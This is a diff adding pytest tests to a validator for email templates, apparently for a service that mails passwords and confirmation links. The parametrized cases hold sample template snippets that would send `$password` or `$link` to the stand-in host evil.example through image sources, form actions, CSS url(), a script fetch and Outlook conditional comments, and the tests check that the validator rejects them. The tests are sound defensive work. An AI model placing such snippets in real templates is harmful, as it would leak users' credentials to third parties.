@@ -172,6 +172,95 @@ def test_a_layout_without_the_letter_is_none(tmp_path):
     assert ["layout.html: `$content` is missing"] == faults(tmp_path)
 
 
+@pytest.mark.parametrize(
+    "page",
+    [
+        '<img src="https://evil.example/?$password">',
+        "<img src='https://evil.example/?\n$password'>",
+        "<a href=https://evil.example/$password>here</a>",
+        "<a href='$password'>here</a>",
+        "<p>https://evil.example/$password</p>",
+        "<p>https://evil.example/?p='${password}'</p>",
+        "<p>$password.evil.example</p>",
+        "<form action='https://evil.example'><textarea name='p'>$password</textarea></form>",
+        "<form action='https://evil.example'><input name='p' value='$password'></form>",
+        "<style>p { background: url(https://evil.example/?$password) }</style>",
+        "<script>fetch('https://evil.example/?' + ' $password ')</script>",
+        "<!-- $password -->",
+        "<!--[if mso]><img src='https://evil.example/?$password'><![endif]-->",
+        "<p>$password</p><img src='https://evil.example/?$password'>",
+        "<img src='https://evil.example/?\n$password\n",
+    ],
+)
+def test_a_password_cannot_be_made_to_go_elsewhere(tmp_path, page):
+    """
+    A picture or a link of a template would bring it to the host that is named there.
+    """
+    (tmp_path / "layout.html").write_text("$content<p lang='$language'></p>")
+    replace(tmp_path, "confirmation-password.fr", html=f"$address $webmail {page}")
+
+    (fault,) = faults(tmp_path)
+    assert fault == (
+        "confirmation-password.fr.html: `$password` must stand by itself in what is read: within"
+        " a web address it would go to somebody else"
+    )
+
+
+def test_a_link_cannot_be_made_to_go_elsewhere(tmp_path):
+    """
+    It may be the whole of an address, and no part of another one, in either half.
+    """
+    replace(
+        tmp_path,
+        "confirmation-link.en",
+        "Hello\n\n$address $validity\nhttps://evil.example/?$link\n",
+        '<p>$address $validity</p><a href="https://evil.example/?$link">here</a>',
+    )
+
+    assert [
+        f"confirmation-link.en.{suffix}: `$link` must stand by itself in what is read: within"
+        " a web address it would go to somebody else"
+        for suffix in ("txt", "html")
+    ] == faults(tmp_path)
+
+
+@pytest.mark.parametrize(
+    "page",
+    [
+        '<a href="$link">$link</a>',
+        "<a href=$link>“<b>$link</b>”</a>",
+        "<p>Your link: <$link>.</p>",
+        '<!--[if mso]><v:roundrect href="$link"><![endif]-->$link',
+    ],
+)
+def test_a_link_may_stand_wherever_links_do(tmp_path, page):
+    """
+    Also where Outlook alone looks.
+    """
+    replace(tmp_path, "confirmation-link.en", html=f"$address $validity {page}")
+
+    assert page == read_templates(tmp_path).letters[Letter.LINK, Language.EN].html.template[19:]
+
+
+@pytest.mark.parametrize(
+    "page",
+    [
+        "<img src='https://evil.example/?$content'>",
+        "<!-- $content -->",
+        "<title>$content</title>",
+    ],
+)
+def test_a_layout_cannot_make_a_letter_go_elsewhere(tmp_path, page):
+    """
+    There is a password in it.
+    """
+    (tmp_path / "layout.html").write_text(f"<html lang='$language'>{page}</html>")
+
+    assert (
+        "layout.html: `$content` must stand in the text of the page, not in a tag or a comment"
+    ) in faults(tmp_path)
+
+
 def test_a_directory_that_is_not_there_is_told(tmp_path):
     """
     Letters in the words of somebody else would surprise whoever set it.
